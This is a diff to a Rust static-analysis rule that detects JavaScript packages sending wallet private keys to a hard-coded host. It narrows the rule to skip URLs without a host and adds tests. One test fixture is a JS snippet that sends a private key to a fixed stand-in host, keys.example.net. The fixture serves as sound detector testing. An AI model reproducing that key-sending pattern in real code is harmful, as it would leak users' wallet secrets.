@@ -35,7 +35,9 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// Custodial signing services whose API takes the private key itself (rare, and bad practice). A key sent
-    /// to a URL the caller configures (an RPC endpoint option) has no constant destination and is not reported.
+    /// to a URL the caller configures (an RPC endpoint option) has no constant destination and is not reported,
+    /// nor is one whose constant part names no host (`https://${host}/keys` folds to `https:///keys`: a JWT
+    /// library fetching the caller's key set).
     /// A wallet service's key-import call posting `account.privateKey` to its own constant API would be reported.
     pub static WALLET_SECRET_EXFILTRATION = { id: "code/wallet-secret-exfiltration", severity: Severity::Critical };
 }
@@ -44,7 +46,13 @@ diligence_finding::declare_rule! {
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     let mut out = Vec::new();
     for path in flows(p, &[SourceKind::WalletSecret], &[SinkKind::Network]).take(20) {
-        if path.dest.is_none() || !near(p, &path.from.file, &path.to.file) {
+        // A destination counts as constant only when it names a host: a caller's
+        // `https://${host}/…` folds to `https:///…`, which names no endpoint.
+        let hard_coded = path
+            .dest
+            .as_deref()
+            .is_some_and(|d| !crate::text::url_host(d).is_empty());
+        if !hard_coded || !near(p, &path.from.file, &path.to.file) {
             continue;
         }
         out.push(flow_finding(
@@ -263,5 +271,35 @@ exports.client = function (config) {
             ),
         ]);
         assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+    }
+
+    /// A JWT helper imports the caller's key and fetches a key set from a host the caller
+    /// names: the URL's constant part has no host, so nothing is sent to a fixed endpoint.
+    #[test]
+    fn negative_key_set_fetched_from_callers_host() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "jwt.js",
+                "exports.verify = async function (token, privateKey, opts) {\n  const init = { headers: { kid: privateKey.kid } };\n  const res = await fetch(`https://${opts.issuer}/.well-known/jwks.json`, init);\n  return res.json();\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+    }
+
+    /// The same shape with the host spelled out is a send to a fixed endpoint.
+    #[test]
+    fn positive_key_sent_to_fixed_host() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "jwt.js",
+                "exports.verify = async function (token, privateKey, opts) {\n  const init = { headers: { kid: privateKey } };\n  const res = await fetch(`https://keys.example.net/${opts.issuer}/jwks.json`, init);\n  return res.json();\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("jwt.js".to_string(), 3)]
+        );
     }
 }
